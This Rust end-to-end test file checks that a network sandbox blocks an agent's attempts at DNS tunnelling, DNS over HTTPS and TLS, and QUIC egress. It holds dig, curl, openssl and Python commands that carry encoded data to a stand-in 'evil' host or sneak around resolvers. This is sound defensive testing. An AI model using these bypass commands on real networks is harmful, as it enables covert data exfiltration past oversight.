//! DNS as a tunnel, DNS over other transports, and QUIC.

use exeat_e2e::{Case, Host};

#[tokio::test]
async fn bypass_dns_tunnel() -> anyhow::Result<()> {
    Case::run(include_str!("agent.yaml"), async |case| {
        let agent = case.agent("agent").await?;
        let long = ["a".repeat(63), "b".repeat(63), "c".repeat(63)].join(".");
        let evil = Host::EVIL.name;
        let server = Host::EVIL.address;
        for question in [
            format!("TXT aGVsbG8gd29ybGQ.{evil}"),
            format!("A {long}.{evil}"),
            format!("NULL x.{evil}"),
            "A x.data.example".to_owned(),
            "TXT data.example".to_owned(),
            "ANY data.example".to_owned(),
            "MX data.example".to_owned(),
            "-x 203.0.113.10".to_owned(),
            format!("A x.{evil} @{server}"),
            format!("+tcp A x.{evil} @{server}"),
            format!("+tcp +keepopen A x.{evil} A y.{evil} @{server}"),
        ] {
            let answer = agent.sh(&format!("dig +time=3 +tries=1 {question}")).await?;
            anyhow::ensure!(answer.stdout.contains("EDE: 15"), "{question}: {answer:?}");
        }
        // Search domains end in NXDOMAIN, so that resolvers go on; nothing is asked of anybody.
        let local = agent.sh("dig +time=3 +tries=1 secret.svc.cluster.local").await?;
        anyhow::ensure!(local.stdout.contains("NXDOMAIN"), "{local:?}");
        for port in ["5353", "853"] {
            let answer =
                agent.sh(&format!("dig +time=1 +tries=1 -p {port} x.{evil} @{server}")).await?;
            answer.expect_failure()?;
        }
        case.expect_nothing_forbidden().await
    })
    .await
}

#[tokio::test]
async fn bypass_dns_over_https_and_tls() -> anyhow::Result<()> {
    Case::run(include_str!("agent.yaml"), async |case| {
        let agent = case.agent("agent").await?;
        let Host { name, address } = Host::DOH;
        let query = "https://evil.example/";
        agent
            .curl(&format!("--doh-url https://{name}/dns-query {query}"))
            .await?
            .expect_failure()?;
        agent
            .curl(&format!("--doh-insecure --doh-url https://{address}/dns-query {query}"))
            .await?
            .expect_failure()?;
        agent
            .curl(&format!(
                "-k --resolve {name}:443:{address} --data-binary x https://{name}/dns-query"
            ))
            .await?
            .expect_refusal("")?;
        // An address of the synthetic range that was given for nothing.
        agent
            .curl(&format!("-k --resolve {name}:443:198.18.77.77 https://{name}/"))
            .await?
            .expect_failure()?;
        // TLS ends at the proxy, which takes no DNS for HTTP and does not answer it as DNS.
        let query = "printf '\\0\\035abcdefghijklmnopqrstuvwxyz123'; sleep 2";
        let answer = agent
            .sh(&format!("({query}) | openssl s_client -quiet -connect {address}:853"))
            .await?;
        let refused = answer.stdout.is_empty() || answer.stdout.starts_with("HTTP/1.1 400");
        anyhow::ensure!(refused, "DNS over TLS was answered: {answer:?}");
        case.expect_nothing_forbidden().await
    })
    .await
}

#[tokio::test]
async fn bypass_quic() -> anyhow::Result<()> {
    Case::run(include_str!("agent.yaml"), async |case| {
        let agent = case.agent("agent").await?;
        // A long header of QUIC version 1, filled up to the size of an Initial.
        let initial = r"import socket,sys
s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); s.settimeout(2)
s.connect((sys.argv[1],443)); s.send(b'\xc3\0\0\0\1\x08abcdefgh\0\0\x44\x9e'+bytes(1180)); print(len(s.recv(2000)))";
        let synthetic = agent.sh("dig +short data.example").await?.stdout.trim().to_owned();
        for address in [Host::EVIL.address, Host::OTHER.address, &synthetic] {
            let output = agent.exec("agent", &["python3", "-c", initial, address]).await?;
            output.expect_failure()?;
            anyhow::ensure!(output.stderr.contains("not permitted"), "not rejected at once: {output:?}");
        }
        case.expect_nothing_forbidden().await
    })
    .await
}
